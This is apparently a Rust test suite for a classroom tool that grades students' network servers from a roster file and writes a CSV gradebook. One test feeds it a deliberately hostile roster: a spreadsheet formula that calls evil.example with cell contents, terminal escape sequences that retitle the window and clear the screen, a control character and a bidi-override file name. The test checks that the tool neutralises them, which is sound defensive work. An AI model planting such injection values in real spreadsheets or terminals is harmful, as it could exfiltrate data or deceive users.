//! `lab-check --room`: a room of our own servers and wrong ones, a hostile roster (formulas,
//! escape sequences, BOMs, typos), the room's time zone, re-grading some students into the
//! gradebook, and the live board on a terminal.

use std::path::{Path, PathBuf};
use std::time::Instant;

use tests::{Finished, ServerProcess};
use unicode_width::UnicodeWidthStr;

use super::fakes::{self, Datagrams, Serving, Talk, fake_tcp, fake_udp};
use super::program::{lab_check, lab_check_env, out, scratch};
use super::{BOUND, Job, at_once};

/// Writes a room file (bytes as given: a BOM, or not) into `dir`.
pub fn room_file(dir: &Path, text: &str) -> PathBuf {
    let path = dir.join("room.txt");
    std::fs::write(&path, text).expect("the room file");
    path
}

/// True for a character that must never reach a terminal or spreadsheet as itself.
fn hidden(c: char) -> bool {
    tests::lab::show::is_hidden(c) && c != '\n'
}

/// The fields of a CSV text, as a spreadsheet reads them (quotes, doubled quotes).
fn csv_fields(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            c => field.push(c),
        }
    }
    rows
}

/// One run of `lab-check`: its arguments, and the environment it runs in.
type Run = (Vec<String>, Vec<(&'static str, &'static str)>);

/// Runs `lab-check` once per argument list, all at once, with `vars`.
fn runs(lists: Vec<Run>) -> Vec<Finished> {
    let jobs: Vec<Job<Finished>> = lists
        .into_iter()
        .map(|(args, vars)| {
            Box::new(move || {
                let refs: Vec<&str> = args.iter().map(String::as_str).collect();
                lab_check_env(&refs, &vars)
            }) as Job<Finished>
        })
        .collect();
    at_once(jobs)
}

/// `args` as owned strings.
fn owned(args: &[&str]) -> Vec<String> {
    args.iter().map(|arg| arg.to_string()).collect()
}

#[test]
fn a_hostile_roster_is_read_checked_and_shown_never_obeyed() {
    if tests::launched() {
        return;
    }
    // A server of its own for each student who has one.
    let tcp: Vec<fakes::Fake> = (0..6)
        .map(|_| fake_tcp(Serving::Threaded, Talk::Answers(fakes::right)))
        .collect();
    let udp: Vec<fakes::Fake> = (0..2)
        .map(|_| fake_udp(Datagrams::Answers(fakes::right)))
        .collect();
    let closed_port = tests::ClosedPort::new();
    let closed = closed_port.address();
    let at = |fakes: &[fakes::Fake], i: usize| fakes[i].address;
    // Notepad's BOM before a comment; names that are formulas, escape sequences (a title, a
    // cleared screen), a C1 control, a bidi override; a typo in a port; a line cut short; a
    // second BOM where two files were joined.
    let roster = format!(
        "\u{feff}# lab 16, Monday\n\
         =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") tcp {}\n\
         +SUM(1+1) tcp {}\n\
         -2+3 udp {}\n\
         @cmd tcp {closed}\n\
         \u{1b}]0;pwned\u{7}\u{1b}[2J evil tcp {}\n\
         \u{9b}31mc1 udp {}\n\
         bidi\u{202e}gnp.exe tcp {}\n\
         carol tcp 127.0.0.1:99999\n\
         dave tcp\n\
         \u{feff}erin tcp {}\n",
        at(&tcp, 0),
        at(&tcp, 1),
        at(&udp, 0),
        at(&tcp, 2),
        at(&udp, 1),
        at(&tcp, 3),
        at(&tcp, 4),
    );
    let dir = scratch("hostile");
    let room = room_file(&dir, &roster).to_string_lossy().into_owned();
    let csv = dir.join("grades.csv").to_string_lossy().into_owned();
    let done = runs(vec![
        (
            owned(&["--room", &room, "--csv", &csv, "--checks", "reply,several"]),
            vec![("COLUMNS", "80")],
        ),
        (
            owned(&["--room", &room, "--json", "--checks", "reply,several"]),
            vec![],
        ),
        (
            owned(&["--room", &room, "--checks", "reply,several"]),
            vec![("COLUMNS", "80"), ("LC_ALL", "zh_CN.UTF-8")],
        ),
    ]);
    let (table, json, chinese) = (out(&done[0]), out(&done[1]), out(&done[2]));
    assert_eq!(done[0].code(), 1, "{table}\n{}", done[0].stderr);
    // Shown, never obeyed: no control character, escape or bidi override anywhere.
    for (what, text) in [("table", &table), ("json", &json), ("chinese", &chinese)] {
        assert!(!text.chars().any(hidden), "{what}: {text:?}");
    }
    for done in &done {
        assert!(!done.stderr.chars().any(hidden), "{:?}", done.stderr);
    }
    // The table fits 80 columns, in both languages.
    for text in [&table, &chinese] {
        for line in text.lines() {
            assert!(line.width() <= 80, "{} columns: {line}", line.width());
        }
    }
    // The lines that cannot be checked say why, and the rest of the room is checked.
    assert!(
        table.contains("carol: not checked: line 9 of the room file: the port"),
        "{table}"
    );
    assert!(
        table.contains("dave: not checked: line 10 of the room file"),
        "{table}"
    );
    assert!(
        table.contains("@cmd: FAIL reply, several: nothing is listening"),
        "{table}"
    );
    assert!(
        table.contains("7 of 10 servers passed every check, 2 not checked"),
        "{table}"
    );
    assert!(table.contains("\\x1b]0;pwned\\x07"), "{table}");
    assert!(
        chinese.contains("carol：未检查：名单文件第 9 行"),
        "{chinese}"
    );
    // The gradebook: a BOM, `student` first, no cell a formula, no control character.
    let book = std::fs::read_to_string(&csv).expect("the gradebook");
    assert!(
        book.starts_with("\u{feff}student,protocol,address,reply,"),
        "{book}"
    );
    let rows = csv_fields(book.trim_start_matches('\u{feff}'));
    assert_eq!(rows.len(), 11, "{book}");
    for field in rows.iter().flatten() {
        let start = field.trim_start();
        assert!(!start.starts_with(['=', '+', '-', '@']), "{field:?}");
        assert!(!field.chars().any(tests::lab::show::is_hidden), "{field:?}");
    }
    assert_eq!(
        rows[1][0],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(rows[10][0], "erin");
    // JSON: each student's object carries the name, escaped, and says why a line was not
    // checked.
    assert!(
        json.contains("{\"student\": \"=HYPERLINK(\\\"http"),
        "{json}"
    );
    assert!(
        json.contains("\"student\": \"\\u001b]0;pwned\\u0007\\u001b[2J evil\""),
        "{json}"
    );
    assert!(
        json.contains("\"student\": \"bidi\\u202egnp.exe\""),
        "{json}"
    );
    assert!(
        json.contains("\"student\": \"carol\", \"target\": \"127.0.0.1:99999\", \"not_checked\": "),
        "{json}"
    );
    assert_eq!(json.matches("\"student\": ").count(), 10, "{json}");
    drop((tcp, udp));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_room_of_30_mixed_and_some_wrong_is_graded_in_seconds_with_transcripts() {
    if tests::launched() {
        return;
    }
    // A room as a teacher sees it: mostly TCP servers, some UDP ones, a few wrong.
    let mut servers: Vec<(String, &str, std::net::SocketAddr, &[&str])> = Vec::new();
    let mut ours = Vec::new();
    for i in 0..26 {
        let (protocol, program, args) = match i % 6 {
            5 => ("udp", "udp-server", &["--quiet"][..]),
            4 => ("tcp", "tcp-server", &["--quiet", "--mode", "event"][..]),
            _ => ("tcp", "tcp-server", &["--quiet"][..]),
        };
        let server = ServerProcess::start(program, args);
        servers.push((format!("student{i:02}"), protocol, server.address, &[]));
        ours.push(server);
    }
    let iterative = ServerProcess::start("tcp-server", &["--quiet", "--mode", "iterative"]);
    let python = fake_tcp(Serving::Threaded, Talk::Answers(fakes::python_bytes));
    let cut = fake_udp(Datagrams::CutAt10);
    let crashes = fake_tcp(Serving::DiesOnFirstMessage, Talk::Silent);
    servers.push(("student26".into(), "tcp", iterative.address, &["at-once"]));
    servers.push(("student27".into(), "tcp", python.address, &["reply"]));
    servers.push((
        "student28".into(),
        "udp",
        cut.address,
        &["chinese", "not-utf8", "senders"],
    ));
    let every: &[&str] = &[
        "reply",
        "time",
        "several",
        "long",
        "chinese",
        "next-client",
        "at-once",
        "not-utf8",
        "reset",
    ];
    servers.push(("student29".into(), "tcp", crashes.address, every));
    let mut roster = String::from("# lab 16, Monday\n\n");
    for (name, protocol, address, _) in &servers {
        roster.push_str(&format!("{name} {protocol} {address}\n"));
    }
    let dir = scratch("thirty");
    let room = room_file(&dir, &roster).to_string_lossy().into_owned();
    let csv = dir.join("grades.csv");
    let logs = dir.join("logs");
    let started = Instant::now();
    let done = lab_check(
        &[
            "--room",
            &room,
            "--csv",
            &csv.to_string_lossy(),
            "--log",
            &logs.to_string_lossy(),
            // Replies on loopback take microseconds: 1 s shows the iterative server's
            // waiting clients as well as the default 2 s, in half the time.
            "--reply-timeout",
            "1",
        ],
        "C",
    );
    let took = started.elapsed();
    eprintln!("lab-check --room: 30 servers (4 wrong) in {took:?}");
    assert!(took < BOUND, "30 servers took {took:?}");
    let text = out(&done);
    assert_eq!(done.code(), 1, "{text}\n{}", done.stderr);
    // Into a pipe: no progress, no colours; the table, the legend with the totals, reasons.
    assert_eq!(done.stderr, "");
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(
        text.lines()
            .next()
            .is_some_and(|header| header.starts_with("student ")),
        "{text}"
    );
    assert!(
        text.contains("Checks (passed/judged): 1 reply 28/30, 2 time 29/30,"),
        "{text}"
    );
    assert!(
        text.contains("26 of 30 servers passed every check"),
        "{text}"
    );
    assert!(text.contains("student29: FAIL reply: the server accepted the connection, closed it without replying to \"hello\", and nothing listens"), "{text}");
    assert!(text.contains("student29: FAIL time, several, long, chinese, next-client, at-once, not-utf8, reset: not checked: the server stopped on the first message"), "{text}");
    // The gradebook: a row per student, each failing exactly the checks it should.
    let book = std::fs::read_to_string(&csv).expect("the gradebook");
    let rows = csv_fields(book.trim_start_matches('\u{feff}'));
    assert_eq!(rows.len(), 31, "{book}");
    let header = &rows[0];
    assert_eq!(header[..4], ["student", "protocol", "address", "reply"]);
    assert_eq!(
        header[header.len() - 5..],
        ["points", "out of", "problems", "checked at", "kit"]
    );
    for (name, _, _, fails) in &servers {
        let row = rows.iter().find(|row| &row[0] == name).expect("a row");
        let failed: Vec<&str> = header
            .iter()
            .zip(row)
            .filter(|(_, cell)| *cell == "fail")
            .map(|(column, _)| column.as_str())
            .collect();
        assert_eq!(&failed, fails, "{name}: {row:?}");
        assert!(row[row.len() - 1].starts_with("lab-check 0."), "{row:?}");
    }
    // A transcript per student.
    let transcripts = std::fs::read_dir(&logs).expect("the logs").count();
    assert_eq!(transcripts, 30);
    drop(ours);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn the_room_s_time_zone_is_named_once_and_tz_judges_the_room_in_it() {
    if tests::launched() {
        return;
    }
    // Four servers in Shanghai, an hour and a half behind the kit's zone; one in the kit's.
    let shanghai: Vec<fakes::Fake> = (0..4)
        .map(|_| fake_tcp(Serving::Threaded, Talk::Answers(fakes::shanghai)))
        .collect();
    let here = fake_tcp(Serving::Threaded, Talk::Answers(fakes::right));
    let mut roster = String::new();
    for (i, fake) in shanghai.iter().enumerate() {
        roster.push_str(&format!("student{i} tcp {}\n", fake.address));
    }
    roster.push_str(&format!("kit_s_zone tcp {}\n", here.address));
    let dir = scratch("zone");
    let room = room_file(&dir, &roster).to_string_lossy().into_owned();
    let csv = dir.join("grades.csv").to_string_lossy().into_owned();
    let done = runs(vec![
        (
            owned(&["--room", &room, "--checks", "reply,time", "--csv", &csv]),
            vec![],
        ),
        (
            owned(&["--room", &room, "--checks", "reply,time", "--tz", "+08:00"]),
            vec![],
        ),
    ]);
    let (first, second) = (out(&done[0]), out(&done[1]));
    // Said once, under the table, not blamed on four students' code; not judged either way.
    assert!(
        first.contains("The room's time zone: 4 of 5 servers stamp a time 1 h 30 min behind"),
        "{first}"
    );
    assert!(first.contains("--tz +08:00"), "{first}");
    assert!(!first.contains("student0: FAIL"), "{first}");
    let row = |text: &str, name: &str| {
        text.lines()
            .find(|line| line.starts_with(name))
            .unwrap_or_default()
            .to_string()
    };
    assert!(row(&first, "student0").ends_with("2/2"), "{first}");
    assert!(row(&first, "kit_s_zone").ends_with("3/3"), "{first}");
    let book = std::fs::read_to_string(&csv).expect("the gradebook");
    assert!(book.contains("student0,tcp,"), "{book}");
    assert_eq!(book.matches(",pass,not judged,2,2,").count(), 4, "{book}");
    // In the room's zone: the room passes, and the one server in another zone is told so.
    assert!(row(&second, "student3").ends_with("3/3"), "{second}");
    assert!(
        second.contains("kit_s_zone: FAIL time: the time"),
        "{second}"
    );
    assert_eq!(done[1].code(), 1);
    drop((shanghai, here));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn some_students_are_checked_again_into_the_gradebook_which_remembers_a_stopped_server() {
    if tests::launched() {
        return;
    }
    let alice = fake_tcp(Serving::Threaded, Talk::Answers(fakes::right));
    let bob = fake_tcp(Serving::BooksLoop, Talk::Answers(fakes::right));
    let roster = format!("alice tcp {}\nbob tcp {}\n", alice.address, bob.address);
    let dir = scratch("again");
    let room = room_file(&dir, &roster).to_string_lossy().into_owned();
    let csv = dir.join("grades.csv").to_string_lossy().into_owned();
    let milestone = ["--checks", "reply,several,reset"];
    let mut first_args = vec!["--room", room.as_str(), "--csv", csv.as_str()];
    first_args.extend(milestone);
    let first = lab_check(&first_args, "C");
    assert_eq!(first.code(), 1, "{}", out(&first));
    let alice_taken = alice.taken.load(std::sync::atomic::Ordering::SeqCst);
    let before = std::fs::read_to_string(&csv).expect("the gradebook");
    let alice_row = before
        .lines()
        .find(|line| line.starts_with("alice,"))
        .expect("alice");
    assert!(
        before.contains("bob,tcp,") && before.contains(",pass,pass,fail,"),
        "{before}"
    );
    // The book's loop stopped on the reset: checked again, bob is told why it is gone.
    let mut again = first_args.clone();
    again.extend(["--only", "bob"]);
    let second = lab_check(&again, "C");
    let text = out(&second);
    assert!(!text.contains("alice"), "only bob: {text}");
    let now_taken = alice.taken.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(now_taken, alice_taken, "alice's server was not contacted");
    assert!(
        text.contains(
            "bob: FAIL reply, several, reset: stopped (after a client reset it, in the last run?)"
        ),
        "{text}"
    );
    let after = std::fs::read_to_string(&csv).expect("the gradebook");
    assert!(
        after.lines().any(|line| line == alice_row),
        "alice's row kept:\n{after}"
    );
    assert_eq!(after.lines().count(), 3, "{after}");
    let bob_row = after
        .lines()
        .find(|line| line.starts_with("bob,"))
        .expect("bob");
    assert!(
        bob_row.contains("stopped (after a client reset it, in the last run?)"),
        "{bob_row}"
    );
    // A name not in the room is a usage error, the gradebook untouched.
    let mut nobody = first_args.clone();
    nobody.extend(["--only", "zed"]);
    assert_eq!(lab_check(&nobody, "C").code(), 2);
    assert_eq!(std::fs::read_to_string(&csv).expect("the gradebook"), after);
    drop((alice, bob));
    let _ = std::fs::remove_dir_all(&dir);
}
